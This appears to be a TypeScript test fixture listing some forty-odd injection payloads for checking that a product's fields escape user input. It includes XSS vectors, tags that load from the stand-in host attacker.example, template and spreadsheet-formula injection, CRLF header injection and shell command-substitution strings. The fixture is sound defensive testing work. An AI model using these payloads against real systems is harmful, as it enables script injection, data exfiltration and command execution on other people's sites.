import { isOneLine } from '@revive/contracts/rules';

/** The code and the host that a payload calls when executed; both are watched. */
const HIT = 'window.__ran=1';
export const ELSEWHERE = 'attacker.example';
const HOME = `//${ELSEWHERE}/x`;

/**
 * More than forty payloads, each short enough for the shortest field that shows it; longer fields get the whole text.
 */
export const PAYLOADS: readonly string[] = [
  `<script>${HIT}</script>`,
  `"><script>${HIT}</script>`,
  `</script><script>${HIT}</script>`,
  `<img src=x onerror=${HIT}>`,
  `"><img src=x onerror="${HIT}">`,
  `<svg onload=${HIT}>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`,
  `<body onload=${HIT}>`,
  `<details open ontoggle=${HIT}>`,
  `<input autofocus onfocus=${HIT}>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>">`,
  `<iframe src="javascript:parent.__ran=1">`,
  `<object data="javascript:${HIT}">`,
  `<a href="javascript:${HIT}">click</a>`,
  `javascript:${HIT}`,
  `<base href="${HOME}">`,
  `<meta http-equiv="refresh" content="0;url=${HOME}">`,
  `<link rel=stylesheet href="${HOME}">`,
  `<form action="${HOME}"><button>Send</button></form>`,
  `<style>*{background:url(${HOME})}</style>`,
  `' onmouseover='${HIT}`,
  '{{constructor.constructor("window.__ran=1")()}}',
  `\${${HIT}}`,
  `#{${HIT}}`,
  `<%= ${HIT} %>`,
  `data:text/html,<script>${HIT}</script>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${HIT}>`,
  '\u202egnp.exe\u202d \u2066hidden\u2069',
  '\u0000nul\u0000',
  '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿'.repeat(6),
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L'.repeat(4),
  `=cmd|' /C calc'!A0`,
  '@SUM(1+9)*cmd',
  '\u001b[31mred\u001b[0m\u0007',
  `[click](javascript:${HIT})`,
  '![x](//attacker.example/x.png)',
  'W'.repeat(300),
  'unbroken-'.repeat(60),
  '\r\n\r\nSet-Cookie: a=b\r\n',
  // Escaped text that must not be decoded a second time: pages, documents and emails must show the exact characters.
  `&lt;img src=x onerror=${HIT}&gt;`,
  'a&b;c%d "e" \'f\' ^| && %PATH% !x!',
  'Tom &amp; Jerry &#60;b&#62; &copy;',
  '%3Cscript%3E%s%n%00',
  '`id`;$(id)&id|id>x',
  `&#x3c;script>${HIT}&#x3c;/script>`,
];

/** Payloads that a page must show exactly: without spaces, line breaks and invisible characters. */
export const SHOWN_AS_TYPED: readonly string[] = PAYLOADS.filter((payload) => payload.includes('&'));

/** Cuts a text to a field's length as the product would do, without splitting a surrogate pair. */
export const within = (payload: string, max: number): string =>
  Array.from(payload)
    .slice(0, max)
    .join('')
    .slice(0, max)
    .replace(/[\ud800-\udbff]$/, '');
export const asOneLine = (payload: string): string => Array.from(payload).filter(isOneLine).join('');

export const fitted = (payload: string, most: number, least = 1): string => {
  const text = within(asOneLine(payload).trim(), most).trim();
  return text.length >= least ? text : within(`${text}${'x'.repeat(least)}`, Math.max(most, least));
};

export const shown = (payload: string): string => JSON.stringify(payload.slice(0, 40));
